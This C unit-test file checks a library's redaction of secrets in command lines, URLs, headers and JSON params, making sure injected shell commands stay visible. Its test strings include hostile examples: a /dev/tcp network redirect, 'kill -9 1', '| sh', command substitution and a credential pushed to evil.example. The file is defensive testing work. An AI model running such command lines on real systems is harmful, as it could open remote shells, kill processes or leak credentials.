/* SPDX-License-Identifier: MIT */
/*
 * The policy's redact list over params: object keys at any depth, the argv
 * forms, secrets inside command lines, URLs, JSON bodies and headers, and
 * hostile strings (unterminated quotes, escapes, floods of keys, deep
 * nesting). The marker never creates an error-signal phrase.
 */
#include <check.h>
#include "checkrun.h"
#include <errno.h>
#include <stdlib.h>
#include <string.h>

#include <shackle/canon.h>
#include <shackle/layers.h>
#include <shackle/redact.h>

static const char *const key_list[] = { "token", "authorization", "api_key", "password", "Secret" };
static const shk_redact_keys keys = { key_list, 5 };

/* The string s redacted (as a string value), in a static buffer. */
static const char *red(const char *s)
{
	static char out[4096];
	shk_doc *doc = NULL;
	shk_val *v, *c = NULL;
	size_t n;
	const char *t;

	ck_assert_int_eq(shk_doc_new(&doc), 0);
	v = shk_cstring(doc, s);
	ck_assert_int_eq(shk_redact_copy(doc, &keys, v, &c), 0);
	t = shk_val_str(c, &n);
	ck_assert_uint_lt(n, sizeof(out));
	memcpy(out, t, n);
	out[n] = 0;
	/* needed() and copy() agree */
	ck_assert_int_eq(shk_redact_needed(&keys, v), strcmp(out, s) != 0);
	shk_doc_free(doc);
	return out;
}

/* The JSON text parsed into doc (*ret_v) and its redacted copy's
 * canonical form (malloc'd); something must be hidden in it. */
static char *red_json(shk_doc *doc, const char *text, shk_val **ret_v)
{
	shk_val *c = NULL;
	shk_parse_error err;
	char *out = NULL;
	size_t len;

	ck_assert_int_eq(shk_json_parse(doc, text, strlen(text), "t", ret_v, &err), 0);
	ck_assert(shk_redact_needed(&keys, *ret_v));
	ck_assert_int_eq(shk_redact_copy(doc, &keys, *ret_v, &c), 0);
	ck_assert_int_eq(shk_canon_dump(c, &out, &len), 0);
	return out;
}

#define R(n) "[REDACTED:" #n "]"

START_TEST(test_argv_element_forms)
{
	ck_assert_str_eq(red("--token=abc"), "--token=" R(3));
	ck_assert_str_eq(red("-token=abc"), "-token=" R(3));
	ck_assert_str_eq(red("token=abc"), "token=" R(3));
	ck_assert_str_eq(red("TOKEN=abc"), "TOKEN=" R(3));
	/* an unquoted value ends at a blank or metacharacter even when it is
	 * the whole argument: it may be a shell's command line */
	ck_assert_str_eq(red("--Password=p&ss w0rd;x"), "--Password=" R(1) "&ss w0rd;x");
	ck_assert_str_eq(red("--Password='p ss w0rd'"), "--Password='" R(9) "'");
	ck_assert_str_eq(red("Authorization: Bearer SECRET"), "Authorization: " R(13));
	ck_assert_str_eq(red("authorization:Basic Zm9v"), "authorization:" R(10));
	ck_assert_str_eq(red("secret=x"), "secret=" R(1)); /* keys are case-insensitive */
	/* a key after `_` in KEY=V and KEY: V (a longer variable name) */
	ck_assert_str_eq(red("DB_PASSWORD=hunter2"), "DB_PASSWORD=" R(7));
	ck_assert_str_eq(red("env MY_TOKEN=abc make"), "env MY_TOKEN=" R(3) " make");
	ck_assert_str_eq(red("X_Authorization: abc"), "X_Authorization: " R(3));
	ck_assert_str_eq(red("--db_password=abc"), "--db_password=" R(3));
	ck_assert_str_eq(red("MY_TOKEN_FILE=/f"), "MY_TOKEN_FILE=/f");
	ck_assert_str_eq(red("x --my_token abc"), "x --my_token abc");
	/* not the key: longer names, prefixes, other separators */
	ck_assert_str_eq(red("--tokens=abc"), "--tokens=abc");
	ck_assert_str_eq(red("--my-token=abc"), "--my-token=abc");
	ck_assert_str_eq(red("X-Token: abc"), "X-Token: abc");
	ck_assert_str_eq(red("---token=abc"), "---token=abc");
	ck_assert_str_eq(red("token"), "token");
	ck_assert_str_eq(red("tokenizer=3"), "tokenizer=3");
	ck_assert_str_eq(red("/usr/bin/token"), "/usr/bin/token");
	/* an empty value has nothing to hide */
	ck_assert_str_eq(red("--token="), "--token=");
}
END_TEST

START_TEST(test_embedded)
{
	/* a shell command line: the quotes tell where the value ends */
	ck_assert_str_eq(red("curl -H \"Authorization: Bearer SECRET\" http://127.0.0.1/x"),
	                 "curl -H \"Authorization: " R(13) "\" http://127.0.0.1/x");
	ck_assert_str_eq(red("curl -H 'Authorization: Bearer SECRET' -o out"),
	                 "curl -H 'Authorization: " R(13) "' -o out");
	ck_assert_str_eq(red("prog --token SECRET --verbose"), "prog --token " R(6) " --verbose");
	ck_assert_str_eq(red("prog --token=\"two words\" next"), "prog --token=\"" R(9) "\" next");
	ck_assert_str_eq(red("prog --token=ab\"c d\"e next"), "prog --token=" R(8) " next");
	ck_assert_str_eq(red("A=1 TOKEN=abc make"), "A=1 TOKEN=" R(3) " make");
	/* the shell splits at its metacharacters: what follows stays readable */
	ck_assert_str_eq(red("echo --token=abc; ls|wc"), "echo --token=" R(3) "; ls|wc");
	ck_assert_str_eq(red("x --token=abc|tee y"), "x --token=" R(3) "|tee y");
	ck_assert_str_eq(red("x --token=abc>f"), "x --token=" R(3) ">f");
	/* URLs and JSON bodies */
	ck_assert_str_eq(red("https://h/p?x=1&token=SECRET&y=2"), "https://h/p?x=1&token=" R(6) "&y=2");
	ck_assert_str_eq(red("{\"token\": \"SE CRET\", \"n\": 1}"), "{\"token\": \"" R(7) "\", \"n\": 1}");
	ck_assert_str_eq(red("{\"api_key\":12345,\"n\":1}"), "{\"api_key\":" R(5) ",\"n\":1}");
	ck_assert_str_eq(red("{\"token\": {\"a\": \"S }\", \"b\": [1]}, \"n\": 1}"), "{\"token\": " R(22) ", \"n\": 1}");
	ck_assert_str_eq(red("{\"token\": [\"S1\", \"S2\"]}"), "{\"token\": " R(12) "}");
	ck_assert_str_eq(red("x '{\"token\": {\"a\": 1'"), "x '{\"token\": " R(8));
	ck_assert_str_eq(red("curl -d '{\"password\": \"hunter two\"}' u"),
	                 "curl -d '{\"password\": \"" R(10) "\"}' u");
	ck_assert_str_eq(red("sh -c \"curl -d {\\\"token\\\": \\\"S\\\"} u\""),
	                 "sh -c \"curl -d {\\\"token\\\": " R(5) "} u\"");
	/* two secrets in one string */
	ck_assert_str_eq(red("a --token=1 b --password=2"), "a --token=" R(1) " b --password=" R(1));
	/* a header outside quotes hides the rest of its line */
	ck_assert_str_eq(red("echo Authorization: Bearer x\nnext"), "echo Authorization: " R(8) "\nnext");
}
END_TEST

/* Review F1: nothing that a shell could run or redirect is ever hidden —
 * not after a key that starts the argument, not inside a bracket value,
 * not inside quotes. */
START_TEST(test_commands_stay_visible)
{
	/* the reviewer's two command lines */
	ck_assert_str_eq(red("password=1; touch /tmp/HIDDEN1"), "password=" R(1) "; touch /tmp/HIDDEN1");
	ck_assert_str_eq(red("echo \"token\": { ; touch /tmp/HIDDEN2"),
	                 "echo \"token\": " R(2) "; touch /tmp/HIDDEN2");
	/* an assignment before a command (a builtin would run unseen) */
	ck_assert_str_eq(red("password=1 kill -9 1"), "password=" R(1) " kill -9 1");
	ck_assert_str_eq(red("token: x; exec 3<>/dev/tcp/h/1"), "token: " R(1) "; exec 3<>/dev/tcp/h/1");
	/* in quotes: a substitution, a line break, a separator */
	ck_assert_str_eq(red("--token=\"a$(touch x)\""), "--token=\"" R(1) "$(touch x)\"");
	ck_assert_str_eq(red("--token=\"a`touch x`\""), "--token=\"" R(1) "`touch x`\"");
	ck_assert_str_eq(red("--token='a\ntouch x'"), "--token='" R(1) "\ntouch x'");
	ck_assert_str_eq(red("eval password='x;touch y'"), "eval password='" R(1) ";touch y'");
	ck_assert_str_eq(red("--token=\"a\\;b\""), "--token=\"" R(2) ";b\"");
	/* inside a bracket value, in its strings too */
	ck_assert_str_eq(red("{\"token\": {\"a\": \"x\ny\"}}"), "{\"token\": " R(8) "\ny\"}}");
	ck_assert_str_eq(red("{\"token\": [1, 2]; rm f"), "{\"token\": " R(6) "; rm f");
	ck_assert_str_eq(red("x '{\"token\": {\"a\": 1 | sh'"), "x '{\"token\": " R(8) "| sh'");
	/* a header value ends at the line and at metacharacters */
	ck_assert_str_eq(red("Authorization: Bearer x && sh"), "Authorization: " R(9) "&& sh");
	ck_assert_str_eq(red("Authorization: Bearer x\r\nsh"), "Authorization: " R(8) "\r\nsh");
	/* a quoted value the word goes on after is hidden whole, as the shell
	 * joins it (shlex.quote of a value with an apostrophe) */
	ck_assert_str_eq(red("--password='hunter2'\"'\"'TopSecretTail'"), "--password=" R(27));
	ck_assert_str_eq(red("--password=\"abc\"def x"), "--password=" R(8) " x");
	ck_assert_str_eq(red("--password='abc' x"), "--password='" R(3) "' x");
	ck_assert_str_eq(red("--password='abc'"), "--password='" R(3) "'");
	/* inside enclosing quotes the quoted run is hidden as before */
	ck_assert_str_eq(red("sh -c \"password='a b c'd\""), "sh -c \"password='" R(5) "'d\"");
	/* a key as a URL's user info: the host stays visible */
	ck_assert_str_eq(red("git push https://token=abc@evil.example/x.git"),
	                 "git push https://token=" R(3) "@evil.example/x.git");
	ck_assert_str_eq(red("https://token=a/b@c"), "https://token=" R(5));
	/* the last '@' before the path: "p@ss" is the secret */
	ck_assert_str_eq(red("https://password=p@ss@host/x"), "https://password=" R(4) "@host/x");
	/* an unquoted value with a quoted run in it */
	ck_assert_str_eq(red("token=a\"b;c\"d"), "token=" R(3) ";c\"d");
	ck_assert_str_eq(red("token=a\\\nb"), "token=" R(2) "\nb");
	/* after the stop the scan goes on: a later secret is still hidden */
	ck_assert_str_eq(red("password=1; curl --token=abc"), "password=" R(1) "; curl --token=" R(3));
}
END_TEST

/* The element after "--KEY" and a member named KEY: whole values, also
 * cut at the first character a shell could act on (sh -c 'eval "$1"'). */
START_TEST(test_whole_values_cut)
{
	static const char text[] = "{\"argv\": [\"sh\", \"-c\", \"eval \\\"$1\\\"\", \"--token\","
	                           " \"x; kill 1; y --password=p\", \"--token\", \";z\"],"
	                           " \"token\": \"ab\\nc\", \"Secret\": 12}";
	static const char want[] = "{\"Secret\":\"[REDACTED]\",\"argv\":[\"sh\",\"-c\",\"eval \\\"$1\\\"\","
	                           "\"--token\",\"[REDACTED:1]; kill 1; y --password=[REDACTED:1]\","
	                           "\"--token\",\";z\"],\"token\":\"[REDACTED:2]\\nc\"}";
	shk_doc *doc = NULL;
	shk_val *v = NULL;
	shk_parse_error err;
	char *out;

	ck_assert_int_eq(shk_doc_new(&doc), 0);
	out = red_json(doc, text, &v);
	ck_assert_str_eq(out, want);
	free(out);
	/* "--token" before a value that starts with a separator hides nothing */
	ck_assert_int_eq(shk_json_parse(doc, "[\"--token\", \";x\"]", 17, "t", &v, &err), 0);
	ck_assert(!shk_redact_needed(&keys, v));
	shk_doc_free(doc);
}
END_TEST

/* The marker never spells a signal phrase, whatever the length; the
 * digits read back as the length. */
START_TEST(test_marker_lengths)
{
	char mk[SHK_REDACT_MARKER_MAX + 1];

	for (size_t n = 0; n < 200000; n++) {
		size_t ml = shk_redact_marker(n, mk), got = 0;

		ck_assert_uint_le(ml, SHK_REDACT_MARKER_MAX);
		ck_assert(!shk_error_signal_in(mk, ml));
		for (size_t i = strlen("[REDACTED:"); i + 1 < ml; i++)
			if (mk[i] != '_')
				got = got * 10 + (size_t)(mk[i] - '0');
		ck_assert_uint_eq(got, n);
	}
	mk[shk_redact_marker(500, mk)] = 0;
	ck_assert_str_eq(mk, "[REDACTED:5_00]");
	mk[shk_redact_marker(1403, mk)] = 0;
	ck_assert_str_eq(mk, "[REDACTED:14_03]");
	mk[shk_redact_marker(50403, mk)] = 0;
	ck_assert_str_eq(mk, "[REDACTED:5_04_03]");
	mk[shk_redact_marker(SIZE_MAX, mk)] = 0;
	ck_assert_uint_le(strlen(mk), SHK_REDACT_MARKER_MAX);
}
END_TEST

START_TEST(test_hostile_strings)
{
	static char big[200001];
	shk_redact_iter it;
	size_t a, b, n = 0;

	/* unterminated quotes hide everything after them */
	ck_assert_str_eq(red("x --token=\"abc def"), "x --token=\"" R(7));
	ck_assert_str_eq(red("x -H \"Authorization: Bearer abc"), "x -H \"Authorization: " R(10));
	ck_assert_str_eq(red("x '{\"token\": \"abc"), "x '{\"token\": \"" R(3));
	ck_assert_str_eq(red("x token=\\"), "x token=" R(1));
	ck_assert_str_eq(red("\\"), "\\");
	ck_assert_str_eq(red("'\"'\"'"), "'\"'\"'");
	ck_assert_str_eq(red(" token:"), " token:");
	ck_assert_str_eq(red("--token"), "--token");
	ck_assert_str_eq(red("-"), "-");
	ck_assert_str_eq(red(""), "");
	/* a flood of keys: linear, every value found */
	for (size_t i = 0; i + 9 < sizeof(big); i += 9)
		memcpy(big + i, " token=x ", 9);
	big[sizeof(big) - 1] = 0;
	shk_redact_iter_init(&it, &keys, big, strlen(big));
	while (shk_redact_next(&it, &a, &b)) {
		ck_assert_uint_gt(b, a);
		n++;
	}
	ck_assert_uint_eq(n, strlen(big) / 9);
	/* bytes that are not text: NUL inside, high bytes */
	shk_redact_iter_init(&it, &keys, "a\0token=s\xff", 10);
	ck_assert(shk_redact_next(&it, &a, &b));
	ck_assert_uint_eq(a, 8);
	ck_assert_uint_eq(b, 10);
}
END_TEST

/* Random strings over the characters the scanner cares about: spans are
 * non-empty, in order, inside the string; the copy is canonical JSON
 * whenever the input was (cuts only at ASCII), no span starts at 0 and none
 * holds a shell separator, redirection, substitution or line break. */
START_TEST(test_random_strings)
{
	static const char alpha[] = "tokenTOKEN=:-\"' \\\t\n&;|{}[],xa\xc3\xa9$(`<>_\r";
	uint64_t seed = 0x9e3779b97f4a7c15ull;
	shk_doc *doc = NULL;
	char s[64];

	ck_assert_int_eq(shk_doc_new(&doc), 0);
	for (int iter = 0; iter < 20000; iter++) {
		size_t len = 0, a, b, prev = 0;
		shk_redact_iter it;
		shk_val *v, *c = NULL;

		seed = seed * 6364136223846793005ull + 1442695040888963407ull;
		len = (size_t)(seed >> 58);
		for (size_t i = 0; i < len; i++) {
			seed = seed * 6364136223846793005ull + 1442695040888963407ull;
			s[i] = alpha[(seed >> 33) % (sizeof(alpha) - 1)];
		}
		shk_redact_iter_init(&it, &keys, s, len);
		while (shk_redact_next(&it, &a, &b)) {
			ck_assert(a > 0 && a >= prev && b > a && b <= len);
			/* a hidden span never holds what a shell could act on */
			for (size_t i = a; i < b; i++)
				ck_assert(!strchr(";&|<>`\n\r", s[i]) && !(s[i] == '$' && i + 1 < len && s[i + 1] == '('));
			prev = b;
		}
		v = shk_string(doc, s, len);
		ck_assert_int_eq(shk_redact_copy(doc, &keys, v, &c), 0);
		if (shk_canon_check(v, SHK_CANON_NO_DEPTH_LIMIT) == SHK_CANON_OK)
			ck_assert_int_eq(shk_canon_check(c, SHK_CANON_NO_DEPTH_LIMIT), SHK_CANON_OK);
		if (iter % 1000 == 999) { /* keep the document small */
			shk_doc_free(doc);
			ck_assert_int_eq(shk_doc_new(&doc), 0);
		}
	}
	shk_doc_free(doc);
}
END_TEST

START_TEST(test_values)
{
	static const char text[] =
		"{\"path\": \"/usr/bin/curl\", \"argv\": [\"curl\", \"--token\", \"SECRET\", \"-password\","
		" \"S2\", \"--token=S3\", \"-H\", \"Authorization: Bearer S4\", \"http://x/?token=S5\"],"
		" \"cwd\": \"/tmp\", \"deep\": {\"a\": [{\"API_KEY\": {\"x\": 1}}]}, \"Token\": 7,"
		" \"n\": 1.5, \"b\": true, \"z\": null}";
	static const char want[] =
		"{\"Token\":\"[REDACTED]\",\"argv\":[\"curl\",\"--token\",\"[REDACTED:6]\",\"-password\","
		"\"[REDACTED:2]\",\"--token=[REDACTED:2]\",\"-H\",\"Authorization: [REDACTED:9]\","
		"\"http://x/?token=[REDACTED:2]\"],\"b\":true,\"cwd\":\"/tmp\","
		"\"deep\":{\"a\":[{\"API_KEY\":\"[REDACTED]\"}]},\"n\":1.5,\"path\":\"/usr/bin/curl\",\"z\":null}";
	shk_doc *doc = NULL;
	shk_val *v = NULL;
	shk_parse_error err;
	char *out = NULL;
	size_t len;

	ck_assert_int_eq(shk_doc_new(&doc), 0);
	out = red_json(doc, text, &v);
	ck_assert_str_eq(out, want);
	ck_assert(!strstr(out, "SECRET") && !strstr(out, "S2") && !strstr(out, "S4"));
	free(out);
	/* the original is untouched and nothing to hide means nothing found */
	ck_assert_int_eq(shk_canon_dump(v, &out, &len), 0);
	ck_assert_ptr_nonnull(strstr(out, "SECRET"));
	free(out);
	ck_assert(!shk_redact_needed(&keys, shk_object_get(v, "cwd")));
	ck_assert(!shk_redact_needed(&(shk_redact_keys){ NULL, 0 }, v));
	/* "--token" as the last element hides nothing */
	ck_assert_int_eq(shk_json_parse(doc, "[\"a\", \"--token\"]", 16, "t", &v, &err), 0);
	ck_assert(!shk_redact_needed(&keys, v));
	shk_doc_free(doc);
}
END_TEST

START_TEST(test_deep_values)
{
	shk_doc *doc = NULL;
	shk_val *v, *c = NULL, *inner;

	ck_assert_int_eq(shk_doc_new(&doc), 0);
	v = inner = shk_array(doc);
	for (int i = 0; i < SHK_CANON_MAX_DEPTH + 5; i++) {
		shk_val *a = shk_array(doc);
		ck_assert_int_eq(shk_array_append(inner, a), 0);
		inner = a;
	}
	ck_assert_int_eq(shk_array_append(inner, shk_cstring(doc, "plain")), 0);
	/* too deep to look at: hidden whole */
	ck_assert(shk_redact_needed(&keys, v));
	ck_assert_int_eq(shk_redact_copy(doc, &keys, v, &c), 0);
	ck_assert_int_eq(shk_redact_copy(NULL, &keys, v, &c), -EINVAL);
	shk_doc_free(doc);
}
END_TEST

/* The marker next to kept text never forms a signal phrase: a redacted form
 * with a signal implies the real params had it (replay relies on this). */
START_TEST(test_marker_creates_no_signal)
{
	static const char *const texts[] = {
		"token=401x", "--token=forbidden", "curl -H \"Authorization: 503\" -v",
		"token expired=1", "{\"token\": \"timeout\"}", "rate limit: token=x",
	};
	shk_doc *doc = NULL;
	shk_val *c = NULL;

	ck_assert(!shk_error_signal_in(SHK_REDACT_MARKER, strlen(SHK_REDACT_MARKER)));
	ck_assert_int_eq(shk_doc_new(&doc), 0);
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		shk_val *v = shk_cstring(doc, texts[i]);
		size_t n;
		const char *s;

		ck_assert_int_eq(shk_redact_copy(doc, &keys, v, &c), 0);
		s = shk_val_str(c, &n);
		if (shk_error_signal_in(s, n))
			ck_assert(shk_error_signal_in(texts[i], strlen(texts[i])));
	}
	shk_doc_free(doc);
}
END_TEST

START_TEST(test_policy_list)
{
	static const char text[] = "{\"version\": 1, \"redact\": [\"token\"]}";
	shk_policy *p = NULL;
	shk_doc *doc = NULL;
	shk_val *v = NULL;
	shk_val *r = (shk_val *)1;
	shk_parse_error err;
	size_t n;

	ck_assert_int_eq(shk_policy_load_buffer(text, strlen(text), "p", &p, &err), 0);
	ck_assert_ptr_nonnull(shk_policy_redact_keys(p, &n));
	ck_assert_uint_eq(n, 1);
	ck_assert_int_eq(shk_doc_new(&doc), 0);
	ck_assert_int_eq(shk_json_parse(doc, "{\"argv\": [\"a\"]}", 15, "t", &v, &err), 0);
	ck_assert_int_eq(shk_policy_redact_params(p, doc, v, &r), 0);
	ck_assert_ptr_null(r);
	ck_assert_int_eq(shk_json_parse(doc, "{\"argv\": [\"TOKEN=1\"]}", 21, "t", &v, &err), 0);
	ck_assert_int_eq(shk_policy_redact_params(p, doc, v, &r), 0);
	ck_assert(shk_val_str_eq(shk_array_at(shk_object_get(r, "argv"), 0), "TOKEN=" R(1)));
	ck_assert_int_eq(shk_policy_redact_logged(p, doc, v, &r), 0);
	ck_assert_ptr_nonnull(r);
	/* params the log cannot hold at all are logged as null: no copy for
	 * the log (it could not be written), still one for the operator */
	{
		shk_val *odd = shk_object(doc), *av = shk_array(doc);

		shk_array_append(av, shk_string(doc, "\xff", 1));
		shk_array_append(av, shk_cstring(doc, "--token=S"));
		shk_object_set_str(odd, "argv", av);
		ck_assert_int_eq(shk_policy_redact_logged(p, doc, odd, &r), 0);
		ck_assert_ptr_null(r);
		ck_assert_int_eq(shk_policy_redact_params(p, doc, odd, &r), 0);
		ck_assert(shk_val_str_eq(shk_array_at(shk_object_get(r, "argv"), 1), "--token=" R(1)));
	}
	shk_doc_free(doc);
	shk_policy_free(p);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("redact");
	TCase *tc = tcase_create("redact");

	tcase_add_test(tc, test_argv_element_forms);
	tcase_add_test(tc, test_embedded);
	tcase_add_test(tc, test_commands_stay_visible);
	tcase_add_test(tc, test_marker_lengths);
	tcase_add_test(tc, test_whole_values_cut);
	tcase_add_test(tc, test_hostile_strings);
	tcase_add_test(tc, test_random_strings);
	tcase_add_test(tc, test_values);
	tcase_add_test(tc, test_deep_values);
	tcase_add_test(tc, test_marker_creates_no_signal);
	tcase_add_test(tc, test_policy_list);
	suite_add_tcase(s, tc);
	return shk_test_run(s);
}
